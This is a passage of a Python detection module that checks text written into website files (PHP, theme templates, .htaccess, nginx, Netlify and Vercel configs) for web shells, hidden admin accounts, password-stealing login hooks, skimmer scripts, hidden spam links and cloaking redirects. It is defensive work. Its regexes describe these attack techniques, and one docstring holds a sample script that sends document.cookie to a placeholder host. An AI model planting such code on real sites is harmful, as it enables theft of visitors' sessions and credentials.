"""What is written into a content site's files (session 24): PHP in an uploads folder or a must-use plugin, a
theme's templates and partials, `.htaccess`, a host's `_redirects`, a site's web-server rules. Such a file is served or
run on every request, so what is written into it acts on every visitor.

Written from the shell (here-document, `tee`, `echo`, a redirect, `sed -i`), through server_config.py; written from
Python or TypeScript (a literal, or text the code builds), through common_code.judge_written.

What is judged, by the kind of file:
- any PHP file: a web shell (what a request carries reaching `eval`, `system`, `shell_exec`, a variable function …, also
  through a variable or a decoder), a hook that hides an account from the Users screen, a login hook that sends or
  writes the password; in an uploads folder (what visitors and editors upload, served at its URL) any PHP code at all;
- a template, a partial, a layout, a theme's PHP (injected_markup): a script from a bare address or from a host whose
  name only poses as a CDN or analytics service, a script shown only on the checkout or login page, links hidden from
  visitors, a redirect of every visitor to another site (blocked); a script from another host no one knows (held,
  as shops.py holds it in a shop's theme; blocked under a live web root);
- `.htaccess`, Apache and nginx rules, Netlify's `_redirects` and `netlify.toml`, `vercel.json`: visitors sent to
  another site only when they come from a search engine or are not crawlers (cloaking), every page sent elsewhere for
  a while (a temporary catch-all redirect, not a site's move), login requests' bodies logged (the passwords), or into
  a folder the web server publishes;
- `netlify.toml`'s build command a later build runs: judged as that command where the text is not whole TOML (a
  piece a script splices in; whole TOML is read by taskfiles' hosting reader).
- (session 29) in any of them and in `_headers`: a Content-Security-Policy that lets any host's script run inline or
  eval'd (docsites_tables.csp_opened); in the redirect files: a sign-in path (`/login`, `/account/*`) served from
  another site under the site's address (a `200` rewrite) or sent to a host imitating the organisation's; in a
  template written from the shell: its inline scripts, judged as TypeScript (a cookie or form skimmer).
"""
from __future__ import annotations

import re

# the paths this module reads, as a regex source searched in a command's text (a fast-path screen: keep it specific)
# (a folder's scan stops at the next of these folders, and a name's at the next `nginx`, whose own try finds the same
# page: a run of them is read once)
CONFIG_TARGET = (r"\.(?:php[3-8]?|phtml|phar|twig|hbs|liquid|astro|njk)\b|\.htaccess\b|(?:^|/)_(?:redirects|headers)\b|"
                 r"netlify\.toml|vercel\.json|/etc/(?:nginx|apache2|httpd)/|nginx(?:(?!nginx)[\w.-])*\.conf\b|"
                 r"(?:_?layouts|_includes|_?partials|themes)/(?:(?!(?:_?layouts|_includes|_?partials|themes)/)"
                 r"[^\s'\"<>|;&])*\.html?\b|(?:app|pages)/(?:layout|_document|_app)\.[jt]sx\b")

_PHP = re.compile(r"\.(?:php[3-8]?|phtml|phar|pht)$", re.I)
# (a folder's components stop at the next folder of these names, whose own try reads the same rest: a path of them
# is read once)
_TEMPLATE = re.compile(r"\.(?:twig|hbs|handlebars|liquid|astro|njk)$|"
                       r"(?:^|/)(?:layouts|_layouts|_includes|partials|_partials|themes|templates)/"
                       r"(?:(?!(?:layouts|_layouts|_includes|partials|_partials|themes|templates)/)[^/]++/)*"
                       r"[^/]+\.(?:html?|tpl|ejs|erb)$|(?:^|/)(?:app|pages)/(?:layout|_document|_app)\.[jt]sx$", re.I)
_HTACCESS = re.compile(r"(?:^|/)\.htaccess$|^/etc/(?:apache2|httpd)/.+\.conf$")
# (an `nginx/` folder's components stop at the next one, which reads the same rest: see _TEMPLATE)
_NGINX = re.compile(r"^/etc/nginx/(?:(?:conf\.d|sites-available|sites-enabled|snippets|modules-enabled)/[^/]+|"
                    r"nginx\.conf)$|(?:^|/)nginx[\w.-]*\.conf$|(?:^|/)nginx/(?:(?!nginx/)[^/]++/)*[^/]+\.conf$")
_NETLIFY_REDIRECTS = re.compile(r"(?:^|/)_redirects$")
_NETLIFY_TOML = re.compile(r"(?:^|/)netlify\.toml$")
# Netlify's and Cloudflare Pages' response headers (session 29: read for a Content-Security-Policy opened)
_HEADERS_FILE = re.compile(r"(?:^|/)_headers$")
_VERCEL = re.compile(r"(?:^|/)vercel\.json$")
# what visitors and editors upload, served at its URL: PHP there runs as the site for anyone who asks for it
_UPLOADS = re.compile(r"(?:^|/)(?:wp-content/uploads|sites/[^/]+/files|uploads|media/uploads)/", re.I)
# folders a web server publishes as they are written (no build, no review before visitors get them)
_LIVE_ROOT = re.compile(r"^/(?:var/www|srv/www|srv/http|usr/share/nginx)/|(?:^|/)(?:public_html|htdocs|wwwroot)/")


def _kind(path: str) -> str | None:
    p = path.strip().strip("'\"")
    if _PHP.search(p):
        return "php"
    if _HTACCESS.search(p):
        return "rewrite"
    if _NGINX.search(p):
        return "nginx"
    if _NETLIFY_REDIRECTS.search(p):
        return "redirects"
    if _HEADERS_FILE.search(p):
        return "headers"
    if _NETLIFY_TOML.search(p):
        return "netlify"
    if _VERCEL.search(p):
        return "vercel"
    if _TEMPLATE.search(p):
        return "template"
    return None


def config_kind(path: str) -> bool:
    """Whether `path` is a file this module judges the written text of."""
    return _kind(path) is not None


def judge_config(a, path: str, text: str, node) -> bool:
    """Judge `text` written to `path` (for a `sed -i` edit, the edit's words joined by new lines); True when a finding
    was reported. `a` has only `block(rule, message, node)` and `review(rule, message, node)` when the writer is code."""
    kind = _kind(path)
    if kind is None or not text.strip():
        return False
    if _policy_opened(a, path, text, node):  # (session 29: any of these files can send the header or the meta tag)
        return True
    if kind in ("php", "template"):
        _page_scripts(a, text, node)
    if kind == "headers":
        return False
    if kind == "php":
        return _php(a, path, text, node) or _markup(a, path, text, node)
    if kind == "template":
        return _markup(a, path, text, node)
    if kind == "rewrite":
        return _send_away(a, path, _rewrite_redirects(text), node) or _markup(a, path, text, node)
    if kind == "nginx":
        return _login_logged(a, path, text, node) or _send_away(a, path, _nginx_redirects(text), node)
    if kind == "redirects":
        return _send_away(a, path, _netlify_redirects(text), node)
    if kind == "netlify":
        return _send_away(a, path, _toml_redirects(text), node) or _build_command(a, path, text, node)
    if kind == "vercel":
        return _send_away(a, path, _vercel_redirects(text), node)
    return False


# -- hosts ------------------------------------------------------------------------------------------------------------
# words a host's name is made of when it only poses as infrastructure: a CDN, a script library, an analytics or tag
# service (`stats-cdn.io`, `cdn-jsdelivery.io`, `analytics-jsdelivr.io`, `ghost-cdn-assets.io`); a site's own CDN is
# named after the site (`cdn.acme.com`, `acme-static.net`), a provider's after the provider
_GENERIC = frozenset("""
cdn cdns static statics asset assets js javascript lib libs library script scripts stat stats statistic statistics
analytic analytics metric metrics measure tag tags track tracking tracker pixel pixels cache cached cloud delivery
deliver content contents api apis web site sites loader load loads min jquery jq bootstrap font fonts img image images
media s sdk widget widgets telemetry counter count insight insights data collect collector app apps hub net global edge
fast secure safe service services sync update updates plugin plugins theme themes wp wordpress ghost drupal joomla
shopify magento woo woocommerce google gstatic googletag gtag gtm facebook fb meta cloudflare cf jsdelivr jsdeliver
jsdelivery unpkg cdnjs npm stripe paypal checkout pay payment payments visitor visitors stats24 counter24 host hosted
hosting serve server files file resource resources dist bundle bundles common core io online live prod main my new
""".split())
_BRAND_STEMS = ("jsdeliv", "jquer", "googl", "cloudfl", "gstat", "shopif", "wordpr", "bootstr", "unpk", "cdnj",
                "analyt", "metric", "stat", "track", "pixel", "tagman", "telemetr")


def _registrable(host: str) -> str:
    parts = host.lower().rstrip(".").split(".")
    if len(parts) >= 3 and parts[-2] in ("co", "com", "net", "org", "gov", "ac", "edu") and len(parts[-1]) == 2:
        return parts[-3]
    from .docsites_tables import HOSTED_SUFFIXES

    # (a hosting platform's shared name, `acme-docs.web.app`: the tenant's label is the name)
    if len(parts) >= 3 and ".".join(parts[-2:]) in HOSTED_SUFFIXES:
        return parts[-3]
    return parts[-2] if len(parts) >= 2 else parts[0]


def _disguised(host: str) -> bool:
    """Is `host`'s own name (the label before its suffix) made only of infrastructure words: a name that says "CDN"
    or "analytics" and no owner?"""
    name = _registrable(host)
    words = [w for w in re.split(r"[-_\d]+", name) if w]
    return bool(words) and all(w in _GENERIC or w.startswith(_BRAND_STEMS) for w in words)


def _own(host: str, own: frozenset = frozenset()) -> bool:
    """This machine, a name reserved for examples or local use, a one-label intranet name, or one of `own` (the
    site's names the same text gives: `server_name`, `%{HTTP_HOST}`)."""
    from .cloud_admin import _own_domain
    from .hosts import loopback

    h = host.lower().rstrip(".")
    return loopback(h) or _own_domain(h) or h.endswith((".local", ".internal", ".lan", ".home.arpa")) or \
        any(h == o or h.endswith("." + o) or o.endswith("." + h) for o in own)


def _known(host: str, own: frozenset = frozenset()) -> bool:
    from .docsites_tables import widget_host
    from .shops import script_host_known

    # (session 27: a site's comment, search, chat, analytics and form providers, documentation sites' among them)
    return _own(host, own) or script_host_known(host) or widget_host(host)


_URL_HOST = re.compile(r"(?i)^(?:https?:)?//([^/\s:?#\"'`\\$]+)(?=[/\s:?#\"'`\\]|\$(?!\{)|$)")


def _host_of(url: str) -> str | None:
    m = _URL_HOST.match(url.strip().strip("\"'"))
    if m is None or "$" in m.group(1) or "{" in m.group(1) or "%" in m.group(1):
        return None
    return m.group(1).lower()


# -- markup a page serves -----------------------------------------------------------------------------------------------
# (an opening tag's attributes are read up to the next `<` as well as `>`, and runs of spaces before an optional quote
# possessively: a long text of unclosed tags otherwise rescans to its end from every tag)
_SCRIPT_SRC = re.compile(r"""(?is)<script\b[^<>]*?\bsrc\s*=\s*+\\?["']?\s*+((?:https?:)?//[^"'\s>\\]+)""")
_SCRIPT_LOADED = re.compile(r"""(?is)(?:\.src\s*=|\bimport\s*\(|\$\.getScript\s*\(|\bloadScript\s*\(|"""
                            r"""setAttribute\s*\(\s*\\?["']src\\?["']\s*,|"""
                            r"""\bwp_(?:enqueue|register)_script\s*\(\s*["'][^"']*["']\s*,)\s*\\?["'`]"""
                            r"""((?:https?:)?//[^"'`\s\\]+)""")
_CHECKOUT_ONLY = re.compile(r"(?i)\bis_checkout\s*\(|\bis_cart\s*\(|\bis_wc_endpoint_url\s*\(|is_page\s*\(\s*['\"]"
                            r"(?:checkout|login|account|payment)|\bis_login\s*\(|login_(?:head|footer|enqueue_scripts)\b|"
                            r"woocommerce_(?:checkout|after_checkout|before_checkout|review_order)\w*|"
                            r"pathname\s*(?:===?|\.includes\s*\(|\.startsWith\s*\()\s*\(?\s*['\"`]/?(?:checkout|login|"
                            r"signin|payment)")
_HIDDEN_STYLE = re.compile(r"(?i)(?:left|top|text-indent|margin-left)\s*:\s*-\d{3,}|display\s*:\s*none|"
                           r"visibility\s*:\s*hidden|font-size\s*:\s*0|(?:height|width)\s*:\s*0(?:px)?\s*;[^\"']*"
                           r"overflow\s*:\s*hidden|opacity\s*:\s*0(?:\.0+)?\s*[;\"']|clip\s*:\s*rect\(\s*0")
# an element's opening tag with a style attribute, or the `hidden` attribute
_STYLED = re.compile(r"""(?is)<(\w+)\b[^<>]*?(?:\bstyle\s*=\s*+\\?["']([^"'\\]*)|\shidden(?=[\s>/]))[^>]*+>""")
_ANCHOR = re.compile(r"""(?is)<a\b[^<>]*?\bhref\s*=\s*+\\?["']?\s*+((?:https?:)?//[^"'\s>\\]++)[^>]*+>(.*?)"""
                     r"""</a\s*+>""")
_ANCHOR_CLOSE = re.compile(r"(?i)</a\s*+>")
_SPAM_WORDS = re.compile(r"(?i)\b(?:cialis|viagra|levitra|tramadol|casino|porn|xxx|escorts?|payday loans?|"
                         r"replica watches)\b")
_IFRAME = re.compile(r"""(?is)<iframe\b([^<>]*?)\bsrc\s*=\s*+\\?["']?\s*+((?:https?:)?//[^"'\s>\\]++)([^>]*+)>""")
_TINY = re.compile(r"""(?i)\b(?:width|height)\s*=\s*\\?["']?0*[01]\b|display\s*:\s*none|visibility\s*:\s*hidden""")
_JS_REDIRECT = re.compile(r"""(?i)(?:(?:window|document|top|self)\.)?location(?:\.href)?\s*=\s*\\?["'`]"""
                          r"""((?:https?:)?//[^"'`\s\\]+)|location\.(?:replace|assign)\s*\(\s*\\?["'`]"""
                          r"""((?:https?:)?//[^"'`\s\\]+)""")
_META_REFRESH = re.compile(r"""(?i)<meta\b(?>[^<>]*?http-equiv\s*=\s*+\\?["']?refresh)[^<>]*?content\s*=\s*+"""
                           r"""\\?["']?\s*+\d+\s*;\s*url\s*=\s*((?:https?:)?//[^"'\s>\\]+)""")
_PHP_REDIRECT = re.compile(r"""(?i)\bheader\s*\(\s*\\?["']\s*Location\s*:\s*((?:https?:)?//[^"'\s\\]+)|"""
                           r"""\bwp_redirect\s*\(\s*\\?["']((?:https?:)?//[^"'\s\\]+)""")


def _scan_markup(text: str, known: frozenset = frozenset(), redirects: bool = True) -> tuple[str, str] | None:
    """("block" | "foreign", why) for what in `text` sends visitors, or what they type, to an outsider; None.
    `known`: hosts the caller has judged (docsites_tables: a documentation page's form service); `redirects`: False
    where a redirect is the page's ordinary work (a built site's "moved" page, a 404 page)."""
    from .docsites_tables import widget_hosts
    from .hosts import ip_literal
    from .shops import storefront_script

    low = text.lower()
    foreign = None
    if "//" in text:
        found = storefront_script(text, set(known) | widget_hosts(text)) if "<script" in low else None
        if found is not None and found[0] == "block":
            return found
        hosts = [m.group(1) for m in _SCRIPT_SRC.finditer(text)] + [m.group(1) for m in _SCRIPT_LOADED.finditer(text)]
        for url in hosts[:32]:
            host = _host_of(url)
            if host is None or _known(host, known):
                continue
            if ip_literal(host):
                return "block", f"a script served from {host}, a bare address, on the site's pages"
            if _disguised(host):
                return "block", (f"a script from {host}, a host whose name only poses as a CDN or analytics service "
                                 "and names no owner: whoever serves it runs code in every visitor's page and reads "
                                 "what they type there")
            if _CHECKOUT_ONLY.search(text):
                return "block", (f"a script from {host} put only on the checkout or login page, where card numbers "
                                 "and passwords are typed: a skimmer's way of hiding from everyone else")
            foreign = foreign or host
    if "<a" in low:
        hidden = _hidden_links(text)
        if hidden is not None:
            return "block", hidden
    if "<iframe" in low:
        for m in _IFRAME.finditer(_to_last(text, ">")):
            host = _host_of(m.group(2))
            if host is not None and not _known(host) and _TINY.search(m.group(1) + m.group(3)):
                return "block", f"an invisible frame loading {host} in every visitor's browser"
    if redirects and ("location" in low or "refresh" in low or "redirect" in low):
        for rx in (_JS_REDIRECT, _META_REFRESH, _PHP_REDIRECT):
            for m in rx.finditer(text):
                url = next(g for g in m.groups() if g) if any(m.groups()) else ""
                host = _host_of(url)
                if host is not None and not _known(host, known):
                    return "block", f"a redirect of the page's visitors to {host}, another site"
    if foreign is not None:
        return "foreign", (f"a script from {foreign}, a host that is neither a well-known tag, analytics or CDN host "
                           "nor the site's own: whoever serves it runs code in every visitor's page and reads what "
                           "they type there")
    return None


scan_markup = _scan_markup  # (session 27: docsites_tables reads a theme's overrides and a built site's pages with it)


def _to_last(text: str, end: str) -> str:
    """`text` up to its last `end`: a pattern that reads up to an `end` (a tag's `>`, a directive's `;`) cannot match
    after it, and every start left to fail there scans to the end of the text again (quadratic in a long text)."""
    return text[:text.rfind(end) + 1]


def _anchors(text: str):
    """_ANCHOR's matches in `text`, read up to the last `</a>` (an anchor not closed after it is none)."""
    closes = list(_ANCHOR_CLOSE.finditer(text))
    return _ANCHOR.finditer(text, 0, closes[-1].end()) if closes else iter(())


def _hidden_links(text: str) -> str | None:
    """Links to other sites that visitors do not see (pushed off the page, hidden, zero-sized) or that sell pills and
    casinos: link spam for search engines, planted in a site's pages."""
    for m in list(_STYLED.finditer(_to_last(text, ">")))[:256]:
        style = m.group(2)
        if style is not None and not _HIDDEN_STYLE.search(style + ";"):
            continue
        close = text.find(f"</{m.group(1)}", m.end())
        inside = text[m.end():close if 0 <= close < m.end() + 8000 else m.end() + 8000]
        for a in _anchors(inside):
            host = _host_of(a.group(1))
            if host is not None and not _own(host):
                return (f"links to {host} hidden from visitors (`{(style or 'hidden').strip()[:40]}`): link spam "
                        "planted in the site's pages for search engines")
    for a in _anchors(text):
        host = _host_of(a.group(1))
        if host is not None and not _own(host) and _SPAM_WORDS.search(a.group(2)):
            return f"a link to {host} ({a.group(2).strip()[:40]!r}): link spam planted in the site's pages"
    return None


def injected_markup(text: str) -> str | None:
    """What in `text` (HTML, PHP or JavaScript a page will serve: a template, a site-wide header option, a CMS's code
    injection setting) sends visitors, or what they type, to an outsider: a script loaded from an outside host, hidden
    links, a redirect; a short description for a message, or None. (Shared with bash/python/js cms.py, which find such
    text in `wp option update`, SQL updates and CMS APIs.)"""
    if not text or len(text) > 200_000:
        return None
    found = _scan_markup(text)
    return found[1] if found is not None else None


def _policy_opened(a, path: str, text: str, node) -> bool:
    """A Content-Security-Policy written to `path` that lets any host's script run inline or eval'd
    (docsites_tables.csp_opened)."""
    from .docsites_tables import csp_opened

    why = csp_opened(text)
    if why is None:
        return False
    a.block("exfiltration", f"the policy written to {path} allows {why}: the protection that keeps an injected "
                            "script from reading visitors' sessions and sending them away is gone; name the hosts "
                            "the site loads script from, and keep inline script behind a nonce or hash", node)
    return True


def _page_scripts(a, text: str, node) -> None:
    """Inline scripts written into a template (`<script>fetch("https://x/?c="+document.cookie)</script>`): judged as
    the TypeScript they are (js/webapp.py reads what a page's script takes from visitors and where it sends it). Only
    from the shell: code's own strings are read by its own rules."""
    ctx, doc = getattr(a, "ctx", None), getattr(a, "doc", None)
    if ctx is None or doc is None or "<script" not in text.lower() or "//" not in text:
        return
    from .common_code import page_scripts

    for s in page_scripts(text, _INLINE_READS)[:8]:
        ctx.nested(s, "typescript", doc, node, None)


_INLINE_READS = re.compile(r"document\.cookie|localStorage|sessionStorage|addEventListener|FormData")


def _markup(a, path: str, text: str, node) -> bool:
    found = _scan_markup(text)
    if found is None:
        return False
    verdict, why = found
    if verdict == "block" or _LIVE_ROOT.search(path):
        a.block("exfiltration", f"what is written to {path} puts {why} on the site's pages. Load scripts from the "
                                "site's own assets or a provider it already uses, and link only what visitors see",
                node)
    else:
        a.review("exfiltration", f"what is written to {path} puts {why}. A person should confirm the host is one the "
                                 "site uses", node)
    return True


# -- PHP ----------------------------------------------------------------------------------------------------------------
# what a request carries (its parameters, cookies, headers, body)
_REQUEST = r"\$_(?:GET|POST|REQUEST|COOKIE|FILES|SERVER\s*\[\s*['\"]HTTP_)|php://input|\bgetallheaders\s*\(|" \
           r"\bapache_request_headers\s*\(|\$HTTP_RAW_POST_DATA|" \
           r"\$(?:r|req|request|\w*[Rr]equest)\s*->\s*(?:input|query|post|get|header|cookie|json|all|getContent|" \
           r"string|str|collect|only|request->get|query->get)\s*\(|\brequest\s*\(\s*(?:\)\s*->|['\"])|" \
           r"\bRequest::(?:input|get|query|post|all|header|json|getContent)\s*\("  # Laravel's and Symfony's request
_REQUEST_RX = re.compile(_REQUEST, re.I)
# what runs code or commands given to it as text
_SINK = re.compile(r"(?i)(?<![\w$>:])(?:@\s*)?(eval|assert|system|exec|shell_exec|passthru|popen|proc_open|pcntl_exec|"
                   r"create_function|include|include_once|require|require_once|call_user_func(?:_array)?|"
                   r"preg_replace)\s*\(|(?<![\w>:])(\$\w+)\s*\(|`[^`]*\$")
_DECODERS = re.compile(r"(?i)\b(?:base64_decode|gzinflate|gzuncompress|gzdecode|str_rot13|strrev|hex2bin|"
                       r"convert_uudecode)\b|'ba'\s*\.\s*'se|'bas'\s*\.\s*'e|\\x62\\x61\\x73\\x65")
_COMMANDS = frozenset({"system", "exec", "shell_exec", "passthru", "popen", "proc_open"})
_INCLUDES = frozenset({"include", "include_once", "require", "require_once"})
_SAFE_NAME = re.compile(r"\b(?:sanitize_file_name|sanitize_key|sanitize_title|basename|in_array|absint|intval)\s*\(")
_ASSIGN = re.compile(r"(\$\w+)\s*(?:\.?=)\s*([^;]*)")
_EXTRACT = re.compile(r"(?i)\b(?:extract|parse_str)\s*\(\s*\$_(?:GET|POST|REQUEST|COOKIE)")
# (a `/*` never closed is read to the end and kept, by _uncommented: left to fail, each one rescanned to the end)
_PHP_COMMENT = re.compile(r"(?s)/\*.*?(?:\*/|\Z)|//[^\n]*|#[^\n]*|<\?(?:php|=)?|\?>")


def _closers(text: str) -> dict[int, int]:
    """Where each `(` of `text` is closed, found once for the whole text (counting from each call's parenthesis again
    was quadratic in a long run of calls)."""
    out: dict[int, int] = {}
    opened: list[int] = []
    for m in re.finditer(r"[()]", text):
        if m.group() == "(":
            opened.append(m.start())
        elif opened:
            out[opened.pop()] = m.start()
    return out


def _call_args(text: str, at: int, closers: dict[int, int]) -> tuple[int, int]:
    """Where the text between the parenthesis opening at or after `at` and the one closing it starts and ends (at most
    2,000 characters; (0, 0) for no parenthesis); `closers` is _closers(text)."""
    start = text.find("(", at)
    if start < 0:
        return 0, 0
    close = closers.get(start)
    return start + 1, close if close is not None and close < start + 2000 else min(len(text), start + 2000)


_VARIABLE = re.compile(r"\$\w+")


def _mentions(text: str, names: set[str]) -> bool:
    """Does `text` use one of the variables `names` (`$cmd`, not `$cmdline`)? A set lookup of each variable written
    there: a regex per name, per call's arguments, was quadratic (and recompiled past re's cache) in a long file."""
    return bool(names) and any(v in names for v in _VARIABLE.findall(text))


def _tainted(text: str, source: re.Pattern) -> set[str]:
    """The variables given what `source` finds, directly or through another such variable (two rounds)."""
    names: set[str] = set()
    for _ in range(2):
        for m in _ASSIGN.finditer(text):
            value = m.group(2)
            if source.search(value) or _mentions(value, names):
                names.add(m.group(1))
    return names


class _Spans:
    """Where in a text what a request carries appears, for asking whether one call's arguments hold any of it without
    searching them again: a long run of calls each searched its own 2,000 characters."""

    def __init__(self, spans: list[tuple[int, int]]):
        self.spans = sorted(spans)
        self.starts = [s for s, _ in self.spans]

    def within(self, start: int, end: int) -> bool:
        """Does one of the spans lie inside start..end?"""
        from bisect import bisect_left

        for s, e in self.spans[bisect_left(self.starts, start):]:
            if s >= end:
                return False
            if e <= end:
                return True
        return False


def _web_shell(text: str) -> str | None:
    if "(" not in text:
        return None
    request = _REQUEST_RX.search(text) is not None
    decoded = _DECODERS.search(text) is not None
    if not request and not decoded:
        return None
    everything = _EXTRACT.search(text) is not None  # `extract($_POST)`: every variable is the request's
    names = _tainted(text, _REQUEST_RX) if request else set()
    closers = _closers(text)
    carried = _Spans([(r.start(), r.end()) for r in _REQUEST_RX.finditer(text)] +
                     [(v.start(), v.end()) for v in _VARIABLE.finditer(text) if v.group() in names])
    for m in _SINK.finditer(text):
        if m.group(0).startswith("`"):
            if request and (_REQUEST_RX.search(m.group(0)) or any(n in m.group(0) for n in names) or everything):
                return "runs as a command what a request carries (backticks)"
            continue
        sink = (m.group(1) or m.group(2) or "").lower()
        if sink in ("$this", "$wpdb") or (m.group(2) and not request and not decoded):
            continue
        start, end = _call_args(text, m.end() - 1, closers)
        args = text[start:end]
        fed = carried.within(start, end)
        if fed and (sink in _COMMANDS and "escapeshellarg" in args or sink in _INCLUDES and _SAFE_NAME.search(args)):
            continue  # a file name quoted as one argument, a page of the plugin's own chosen by a cleaned name
        if sink == "preg_replace" and not re.match(r"""\s*['"](.).*\1[a-z]*e[a-z]*['"]""", args, re.S):
            continue
        if fed or everything and re.search(r"\$\w", args):
            return f"hands what a request carries to `{sink}`: anyone who knows the URL runs their own code on the " \
                   "server"
        if decoded and sink in ("eval", "assert", "create_function") and _DECODERS.search(args):
            return f"runs with `{sink}` code it decodes at run time: a hidden loader"
    return None


# a hook on the users listed, then (after the first such hook) what leaves one out; two searches, not one `.*?`
# between them, which rescans to the end from every hook's name when nothing follows
_USER_HOOK = re.compile(r"(?i)\b(?:pre_user_query|pre_get_users|users_list_table_query_args|views_users|"
                        r"rest_user_query|wp_dropdown_users_args)\b")
_USER_LEFT_OUT = re.compile(r"(?i)user_login\s*(?:!=|<>|not\s+in|not\s+like)|\bID\s*(?:!=|<>|not\s+in)|login__not_in|"
                            r"['\"]exclude['\"]|->query_where\s*\.=")
_LOGIN_HOOK = re.compile(r"(?i)\b(?:wp_authenticate(?:_user)?|authenticate|wp_login|login_form_login|check_password|"
                         r"woocommerce_process_login_errors)\b")
_PASSWORD = re.compile(r"(?i)\$_(?:POST|REQUEST)\s*\[\s*['\"](?:pwd|pass|password|user_pass|passwd)['\"]|"
                       r"\$(?:pass|pwd|password|passwd|user_pass)\w*\b")
_SENDERS = re.compile(r"(?i)\b(?:wp_remote_(?:post|get|request)|wp_safe_remote_(?:post|get)|curl_setopt|"
                      r"file_get_contents|fsockopen|mail|wp_mail|file_put_contents|fwrite|fputs|error_log|"
                      r"setcookie|socket_write)\s*\(")


def _uncommented(m: re.Match) -> str:
    """What _PHP_COMMENT's match leaves of the code: nothing, but for a `/*` not closed (kept, as code)."""
    c = m.group(0)
    return c if c.startswith("/*") and (len(c) < 4 or not c.endswith("*/")) else ""  # (`/*/` is not closed)


def _php(a, path: str, text: str, node) -> bool:
    """A PHP file of the site: run for anyone who requests its URL, or on every request (a plugin, a must-use plugin,
    a theme's functions.php)."""
    shell = _web_shell(text)
    if shell is not None:
        a.block("persistence", f"the PHP written to {path} {shell}: a web shell. Write the feature as code that takes "
                               "no code or command from the request", node)
        return True
    if _UPLOADS.search(path):
        code = _PHP_COMMENT.sub(_uncommented, text).strip()
        if code:
            a.block("persistence", f"PHP code is written into {path}, an uploads folder: the web server runs it for "
                                   "anyone who asks for its URL, which is how web shells are planted. Uploads hold "
                                   "media; put code in a plugin or theme of the project", node)
            return True
    hook = _USER_HOOK.search(text)
    if hook is not None and _USER_LEFT_OUT.search(text, hook.end()):
        a.block("privilege-escalation", f"the PHP written to {path} hides an account from the site's Users screen: "
                                        "an account no administrator sees is a way into the site kept hidden. Remove "
                                        "accounts that should not be there instead", node)
        return True
    if _LOGIN_HOOK.search(text) and _PASSWORD.search(text):
        names = _tainted(text, _PASSWORD) | {m.group(0) for m in re.finditer(r"\$(?:pass|pwd|password|passwd|"
                                                                              r"user_pass)\w*\b", text, re.I)}
        closers = _closers(text)
        for m in _SENDERS.finditer(text):
            start, end = _call_args(text, m.end() - 1, closers)
            args = text[start:end]
            if _PASSWORD.search(args) or _mentions(args, names):
                a.block("exfiltration", f"the PHP written to {path} sends or keeps the passwords people sign in with "
                                        f"(`{m.group(0)[:-1].strip()}` in a login hook): leave the password to "
                                        "WordPress's own check", node)
                return True
    return False


# -- redirects ----------------------------------------------------------------------------------------------------------
class _Redirect:
    __slots__ = ("target", "everything", "temporary", "cloaked", "own", "source", "proxied")

    def __init__(self, target: str, everything: bool, temporary: bool, cloaked: str | None, own=frozenset(),
                 source: str = "", proxied: bool = False):
        self.target, self.everything, self.temporary, self.cloaked, self.own = \
            target, everything, temporary, cloaked, frozenset(own)
        # (session 29) the path it applies to, and whether the target is served under the site's address (a rewrite)
        self.source, self.proxied = source, proxied


_SEARCH_ENGINES = re.compile(r"(?i)google|bing|yahoo|duckduckgo|yandex|baidu|ecosia|\bask\b|aol|naver")
_CRAWLERS = re.compile(r"(?i)bot|crawl|spider|slurp|googlebot|bingbot")


def _cloaking(referer_positive: list[str], agent_negated: list[str]) -> str | None:
    """What makes a redirect cloaked: only visitors from a search engine are sent (the engine's crawler, and the site's
    owner typing its address, see the real site), or only people and not crawlers."""
    if any(_SEARCH_ENGINES.search(r) for r in referer_positive):
        return "only visitors who arrive from a search engine"
    if any(_CRAWLERS.search(u) for u in agent_negated):
        return "every visitor but search engines' crawlers"
    return None


_CATCH_ALL = re.compile(r"^(?:\^?\(?\.\*\)?\$?|\^\$?|\^/?\(?\.\*\)?\$?|/\*|/|\.|\^/|/\(\.\*\)|/:path\*|/\(\.\*\))$")
_REWRITE_COND = re.compile(r"(?im)^[^\S\n]*RewriteCond[^\S\n]+%\{(?:HTTP:)?([\w-]+)\}[^\S\n]+(\S+)")
# conditions that pick no visitors out (the host or scheme asked for, a file that is not there)
_ANY_VISITOR = frozenset({"HTTP_HOST", "SERVER_NAME", "HTTPS", "REQUEST_SCHEME", "SERVER_PORT", "REQUEST_FILENAME",
                          "REQUEST_URI", "THE_REQUEST", "X-Forwarded-Proto"})
# (a line's own blanks: matched on one line; searched, `^\s*` read every blank line after each line start)
_REWRITE_RULE = re.compile(r"(?im)^[^\S\n]*+RewriteRule\s+(\S+)\s+(\S+)(?:\s+\[([^\]]*)\])?")
_REDIRECT_LINE = re.compile(r"(?im)^[^\S\n]*+(Redirect|RedirectMatch|RedirectTemp|RedirectPermanent)\s+(?:(\w+)\s+)?"
                            r"(\S+)\s+(\S+)")
_IF_EXPR = re.compile(r"(?i)^\s*+<If\s++\"?([^>]*+)>")


def _rewrite_redirects(text: str) -> list[_Redirect]:
    """Apache's redirects (`.htaccess`, a site's configuration): RewriteRule with the RewriteCond lines before it,
    Redirect / RedirectMatch (in an `<If>` on the referer or user agent, read as its condition)."""
    if "edirect" not in text and "RewriteRule" not in text:
        return []
    own = frozenset(h for m in _REWRITE_COND.finditer(text) if m.group(1) in ("HTTP_HOST", "SERVER_NAME")
                    for h in re.findall(r"[\w-]+(?:\\?\.[\w-]+)+", m.group(2).replace("\\.", ".")))
    out: list[_Redirect] = []
    ref_pos: list[str] = []
    ua_neg: list[str] = []
    picked = False  # a condition that picks some visitors out (a language, a device, an address)
    lines = text.splitlines()
    for line in lines[:2000]:
        m = _REWRITE_COND.match(line)
        if m is not None:
            var, pattern = m.group(1), m.group(2)
            picked = picked or var not in _ANY_VISITOR
            if var == "HTTP_REFERER" and not pattern.startswith("!"):
                ref_pos.append(pattern)
            elif var == "HTTP_USER_AGENT" and pattern.startswith("!"):
                ua_neg.append(pattern)
            continue
        m = _IF_EXPR.match(line)
        if m is not None:
            expr = m.group(1).rstrip()
            expr = expr[:-1] if expr.endswith('"') else expr
            picked = True
            if re.search(r"(?i)HTTP_REFERER\}?\s*=~", expr):
                ref_pos.append(expr)
            if re.search(r"(?i)HTTP_USER_AGENT\}?\s*!~", expr):
                ua_neg.append(expr)
            continue
        m = _REWRITE_RULE.match(line)
        if m is not None:
            flags = (m.group(3) or "").upper()
            target = m.group(2)
            if re.match(r"(?i)(?:https?:)?//", target) and ("R" in re.split(r"[,=]", flags) or "R=" in flags or
                                                             target.lower().startswith("http")):
                status = re.search(r"R=(\d{3})", flags)
                temporary = status is None or status.group(1) in ("302", "303", "307")
